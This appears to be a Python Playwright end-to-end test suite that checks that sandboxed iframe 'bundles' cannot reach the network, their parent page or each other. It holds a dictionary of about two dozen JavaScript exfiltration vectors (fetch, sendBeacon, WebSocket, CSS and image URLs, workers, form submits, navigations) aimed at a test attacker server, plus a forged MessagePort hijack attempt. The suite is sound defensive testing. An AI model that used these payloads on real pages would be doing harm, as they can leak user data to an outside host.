"""Frames hold: no network, no parent, one document, one port, and words that are judged at the edge."""

from collections.abc import AsyncIterator
from typing import Any, Final

import pytest
from playwright.async_api import Locator

from tests.e2e.frames import Attacker, Surfaces, attacker, integrity
from tests.e2e.house import Visit, until

pytestmark = [pytest.mark.anyio, pytest.mark.e2e]

ECHO: Final = "LineUpSurface.onState((state) => { document.title = JSON.stringify(state); })"


@pytest.fixture
async def lurking(anyio_backend: str) -> AsyncIterator[Attacker]:
    async with attacker() as running:
        yield running


# ---- what it is for


async def test_a_bundle_shows_its_state_and_tells_what_the_person_did(visit: Visit) -> None:
    tab = await Surfaces.opened(visit)
    await tab.opens(
        html="<button>Draw</button>",
        css="button { color: rgb(1, 2, 3) }",
        js=f"{ECHO};document.querySelector('button').onclick = () => LineUpSurface.event('draw', {{ d: 'M0 0' }})",
        events=["draw"],
        state={"phase": "idle"},
    )
    await tab.fronts()
    assert await tab.tells("document.title") == '{"phase":"idle"}'
    await tab.says({"type": "app", "op": "state", "instance": "i.1", "state": {"phase": "focusing"}})
    await until(lambda: _is(tab, "document.title", '{"phase":"focusing"}'))
    assert await tab.tells("getComputedStyle(document.querySelector('button')).color") == "rgb(1, 2, 3)"
    assert await tab.tells("document.compatMode") == "CSS1Compat"
    await tab.inner().get_by_role("button", name="Draw").click()
    assert await tab.hears("event") == {
        "type": "app_news",
        "instance": "i.1",
        "what": "event",
        "event": "draw",
        "data": {"d": "M0 0"},
    }


async def test_a_bundle_without_script_is_a_picture(visit: Visit) -> None:
    tab = await Surfaces.opened(visit)
    await tab.opens(html="<p>Still</p>", css=None, js=None)
    assert await tab.inner().get_by_text("Still").is_visible() is False
    await tab.fronts()
    assert await tab.inner().get_by_text("Still").is_visible()
    assert await tab.tells("document.querySelectorAll('script').length") == 0


async def _is(tab: Surfaces, script: str, value: Any) -> bool:
    return await tab.tells(script) == value


# ---- where it stands


async def test_the_frame_has_no_origin_no_storage_and_no_parent(visit: Visit) -> None:
    tab = await Surfaces.opened(visit, "/frames?secret=42")
    await tab.opens(js=ECHO)
    tries = """() => {
      const tried = (task) => { try { return String(task()); } catch (error) { return error.name; } };
      return {
        origin: self.origin,
        parent: tried(() => parent.document),
        top: tried(() => top.document.body),
        local: tried(() => localStorage),
        session: tried(() => sessionStorage),
        cookie: tried(() => document.cookie),
        base: document.baseURI,
        referrer: document.referrer,
        webrtc: typeof RTCPeerConnection,
        markup: tried(() => (document.body.innerHTML = '<iframe srcdoc="x">')),
        script: tried(() => { const made = document.createElement('script'); made.textContent = '1'; document.body.append(made); }),
        opened: tried(() => open('about:blank')),
        tools: tried(() => document.modelContext),
      };
    }"""
    found = await tab.tells(tries)
    assert found["origin"] == "null"
    denied = {found[name] for name in ("parent", "top", "local", "session", "cookie")}
    assert denied == {"SecurityError"}
    assert found["base"] == "about:srcdoc" or "secret" not in found["base"]
    assert "secret" not in found["referrer"]
    assert found["webrtc"] == "undefined"
    assert (found["markup"], found["script"]) == ("TypeError", "TypeError")
    assert found["opened"] == "null"


async def test_the_attributes_and_headers_are_the_ones_that_were_decided(visit: Visit) -> None:
    tab = await Surfaces.opened(visit)
    await tab.opens(js=ECHO)
    outer = tab.page.locator("iframe")
    assert await outer.get_attribute("sandbox") == "allow-scripts"
    assert await outer.get_attribute("allow") == ""
    assert "?" not in str(await outer.get_attribute("src"))
    inner = tab.inner().parent_frame
    assert inner is not None
    assert await inner.evaluate("document.querySelector('iframe').getAttribute('sandbox')") == "allow-scripts"
    source: str = await inner.evaluate("document.querySelector('iframe').srcdoc")
    assert source.startswith(
        '<!doctype html><html lang="en"><meta http-equiv="Content-Security-Policy" content="default-src'
    )
    assert await inner.evaluate("self.origin") == "null"


ATTACKS: Final = {
    "fetch": "fetch(URL).catch(() => 0)",
    "fetch_keepalive": "fetch(URL, { mode: 'no-cors', keepalive: true }).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', URL); x.send()",
    "beacon": "navigator.sendBeacon(URL, 'x')",
    "websocket": "new WebSocket(URL.replace('http', 'ws'))",
    "eventsource": "new EventSource(URL)",
    "image": "new Image().src = URL",
    "css": "const s = new CSSStyleSheet(); s.replaceSync(`body{background:url(${URL})}`); document.adoptedStyleSheets = [s]",
    "style": "document.body.style.backgroundImage = `url(${URL})`",
    "font": "new FontFace('x', `url(${URL})`).load().catch(() => 0)",
    "script": "const s = document.createElement('script'); s.src = URL; document.body.append(s)",
    "import": "import(URL).catch(() => 0)",
    "worker": "new Worker(URL)",
    "blob_worker": "new Worker(window.URL.createObjectURL(new Blob([`fetch('${URL}')`])))",
    "link": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = URL; document.head.append(l)",
    "prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = URL; document.head.append(l)",
    "object": "const o = document.createElement('object'); o.data = URL; document.body.append(o)",
    "embed": "const e = document.createElement('embed'); e.src = URL; document.body.append(e)",
    "video": "const v = document.createElement('video'); v.src = URL; document.body.append(v)",
    "frame": "const f = document.createElement('iframe'); f.src = URL; document.body.append(f)",
    "data_frame": "const f = document.createElement('iframe'); f.src = `data:text/html,<img src=${URL}>`; document.body.append(f)",
    "form": "const f = document.createElement('form'); f.action = URL; document.body.append(f); f.submit()",
    "open": "open(URL)",
    "parent": "parent.location = URL",
    "top": "top.location = URL",
    "svg": "const u = document.createElementNS('http://www.w3.org/2000/svg', 'image'); u.setAttribute('href', URL); "
    "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); s.append(u); document.body.append(s)",
}

NAVIGATIONS: Final = {
    "href": "location.href = URL",
    "replace": "location.replace(URL)",
    "anchor": "const a = document.createElement('a'); a.href = URL; document.body.append(a); a.click()",
    "download": "const a = document.createElement('a'); a.href = URL; a.download = 'x'; document.body.append(a); a.click()",
    "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${URL}`; document.head.append(m)",
}


async def test_nothing_a_bundle_does_reaches_anybody(visit: Visit, lurking: Attacker) -> None:
    tab = await Surfaces.opened(visit)
    await tab.opens(js=ECHO)
    for name, attack in ATTACKS.items():
        await tab.tells(f"() => {{ const URL = '{lurking.url}/{name}'; try {{ {attack} }} catch {{}} }}")
    assert await lurking.waits_for_visit("/") is False
    assert lurking.visits == []
    assert tab.page.url.endswith("/frames")


@pytest.mark.parametrize("name", NAVIGATIONS)
async def test_a_frame_that_goes_elsewhere_asks_nobody_and_is_over(
    visit: Visit, lurking: Attacker, name: str
) -> None:
    tab = await Surfaces.opened(visit)
    await tab.opens(js=ECHO)
    script = f"() => {{ const URL = '{lurking.url}/{name}'; {NAVIGATIONS[name]} }}"
    await tab.tells(script)
    assert await lurking.waits_for_visit("/") is False
    if name != "download":
        assert (await tab.hears("failed"))["code"] == "navigated"
        assert tab.outer_count == 0


@pytest.mark.parametrize("name", ["fetch", "image", "websocket"])
async def test_without_the_guards_the_same_attacks_arrive(visit: Visit, lurking: Attacker, name: str) -> None:
    """The control: it is the frame's policy that stops them, not the rig."""
    context = await visit.window()
    page = await context.new_page()
    await page.goto(f"{visit.house.site_url}/elsewhere")
    await page.evaluate(f"() => {{ const URL = '{lurking.url}/{name}'; {ATTACKS[name]} }}")
    assert await lurking.waits_for_visit(f"/{name}")


async def test_a_document_that_comes_second_hears_and_says_nothing(visit: Visit) -> None:
    tab = await Surfaces.opened(visit)
    await tab.opens(js=ECHO, events=["draw"])
    await tab.tells("location.reload()")
    failed = await tab.hears("failed")
    assert failed["code"] == "navigated"
    assert tab.outer_count == 0
    await tab.says({"type": "app", "op": "state", "instance": "i.1", "state": {"secret": 1}})
    assert await tab.news("event") == []


async def test_another_load_of_the_outer_frame_ends_it_too(visit: Visit) -> None:
    tab = await Surfaces.opened(visit)
    await tab.opens(js=ECHO)
    outer = tab.inner().parent_frame
    assert outer is not None
    await outer.evaluate("location.reload()")
    assert (await tab.hears("failed"))["code"] == "navigated"
    assert tab.outer_count == 0


async def test_no_window_message_moves_the_outer_frame_once_it_has_its_port(visit: Visit) -> None:
    tab = await Surfaces.opened(visit)
    await tab.opens(js=ECHO, state={"n": 1})
    assignment = '{"html":"<p>mine</p>","css":"","js":"","handlers":false,"profile":"compat","lang":"en"}'
    forged = f"""(target) => {{
      const {{ port1, port2 }} = new MessageChannel();
      target.postMessage('', '*', [port2]);
      port1.postMessage('{assignment}');
      window.stolen = port1;
    }}"""
    await tab.tells(f"({forged})(parent)")
    outer = tab.inner().parent_frame
    assert outer is not None
    await tab.page.locator("iframe").evaluate(f"(frame) => ({forged})(frame.contentWindow)")
    await tab.says({"type": "app", "op": "state", "instance": "i.1", "state": {"n": 2}})
    await until(lambda: _is(tab, "document.title", '{"n":2}'))
    assert await outer.evaluate("document.querySelectorAll('iframe').length") == 1
    assert await tab.news("failed") == []


# ---- what is mounted


async def test_a_bundle_that_is_not_the_one_named_never_gets_a_frame(visit: Visit) -> None:
    tab = await Surfaces.opened(visit)
    opening = tab.opening(js=ECHO)
    await tab.page.evaluate(
        "() => new MutationObserver((list) => { window.sawFrame ||= list.some((m) => [...m.addedNodes].some((n) => n.localName === 'iframe')); })"
        ".observe(document, { childList: true, subtree: true })"
    )
    await tab.says({**opening, "integrity": "sha256-" + "A" * 43 + "="})
    assert (await tab.hears("failed"))["code"] == "integrity"
    assert tab.outer_count == 0
    assert not await tab.page.evaluate("window.sawFrame")


async def test_a_bundle_nobody_installed_is_not_loaded(visit: Visit) -> None:
    tab = await Surfaces.opened(visit)
    await tab.says({**tab.opening(js=ECHO), "bundle": f"/sandbox/v1/apps/{'0' * 64}/main"})
    failed = await tab.hears("failed")
    assert (failed["code"], "404" in failed["message"]) == ("not_loaded", True)


async def test_a_page_whose_policy_refuses_frames_is_told_what_it_needs(visit: Visit) -> None:
    tab = await Surfaces.opened(visit, "/frames?unframed")
    await tab.says(tab.opening(js=ECHO))
    failed = await tab.hears("failed")
    assert failed["code"] == "not_loaded"
    assert f"`{visit.house.gateway_url}/sandbox/`" in failed["message"]


async def test_the_outer_frame_looks_for_itself(visit: Visit) -> None:
    """What the gateway's parser should have refused, a bundle holds here: the frame's own look at it is the second one."""
    tab = await Surfaces.opened(visit)
    opening = tab.opening(js=ECHO)
    await tab.page.route(
        "**/sandbox/v1/apps/**",
        lambda route: route.fulfill(
            json={"html": "<template><iframe srcdoc='x'></iframe></template>", "css": "", "js": ""},
            headers={"access-control-allow-origin": "*"},
        ),
    )
    wrong = {"html": "<template><iframe srcdoc='x'></iframe></template>", "css": "", "js": ""}
    await tab.says({**opening, "integrity": integrity(wrong)})
    assert (await tab.hears("failed"))["code"] == "integrity"


# ---- the edge


async def test_what_a_bundle_may_not_say_is_dropped_and_counted(visit: Visit) -> None:
    tab = await Surfaces.opened(visit)
    await tab.page.evaluate("void host.on('apps', (apps) => { window.apps = apps; })")
    await tab.opens(js=ECHO, events=["draw"])
    await tab.fronts()
    # The bundle's realm is its own: it may reach the port itself.
    await tab.tells(
        """() => {
          LineUpSurface.event('erase', {});
          LineUpSurface.event('close', {});
          LineUpSurface.event('draw', { d: 'x'.repeat(16384) });
          LineUpSurface.event('draw', { n: 9007199254740993 });
          LineUpSurface.event('draw', { d: 'fine' });
        }"""
    )
    assert (await tab.hears("event"))["data"] == {"d": "fine"}
    assert len(await tab.news("event")) == 1
    await until(lambda: _counted(tab, 4))


async def _counted(tab: Surfaces, dropped: int) -> bool:
    return await tab.page.evaluate("window.apps?.[0]?.dropped") == dropped


async def test_a_flood_is_cut_off(visit: Visit) -> None:
    tab = await Surfaces.opened(visit)
    await tab.opens(js=ECHO, events=["draw"])
    await tab.fronts()
    await tab.tells("() => { for (let n = 0; n < 5000; n += 1) LineUpSurface.event('draw', { n }); }")
    await tab.hears("event", 60)
    await tab.tells("new Promise((done) => setTimeout(done, 300))")
    assert 60 <= len(await tab.news("event")) < 120
    # The page stays alive.
    assert await tab.page.evaluate("1 + 1") == 2


async def test_a_frame_that_hangs_is_taken_away_and_the_page_lives_on(visit: Visit) -> None:
    tab = await Surfaces.opened(visit)
    await tab.opens(js=f"{ECHO};addEventListener('hang', () => {{ for (;;); }})")
    await tab.fronts()
    # Nobody waits for an answer: there will be none.
    await tab.tells("setTimeout(() => dispatchEvent(new Event('hang')), 10) && 1")
    failed = await tab.hears("failed")
    assert failed["code"] == "unresponsive"
    assert tab.outer_count == 0


async def test_the_height_is_the_frame_s_wish_and_the_width_never(visit: Visit) -> None:
    tab = await Surfaces.opened(visit)
    await tab.opens(js=ECHO)
    await tab.fronts()
    await tab.tells("LineUpSurface.resize(200)")
    outer = tab.page.locator("iframe")
    await until(lambda: _height(outer, 200))
    before = await outer.bounding_box()
    await tab.tells("() => { LineUpSurface.resize(NaN); LineUpSurface.resize(-5); LineUpSurface.resize(260); }")
    await until(lambda: _height(outer, 260))
    after = await outer.bounding_box()
    assert before is not None
    assert after is not None
    assert before["width"] == after["width"]


async def _height(outer: Locator, height: int) -> bool:
    box = await outer.bounding_box()
    return box is not None and box["height"] == height


async def test_two_frames_never_hear_each_other(visit: Visit) -> None:
    tab = await Surfaces.opened(visit)
    await tab.opens("i.1", js=ECHO, state={"n": 1})
    await tab.opens("i.2", js=f"{ECHO};1", state={"n": 2})
    await tab.says({"type": "app", "op": "state", "instance": "i.2", "state": {"n": 3}})
    await until(lambda: _titles(tab, ['{"n":1}', '{"n":3}']))


async def _titles(tab: Surfaces, wanted: list[str]) -> bool:
    return sorted([await tab.tells("document.title", n) for n in (0, 1)]) == wanted
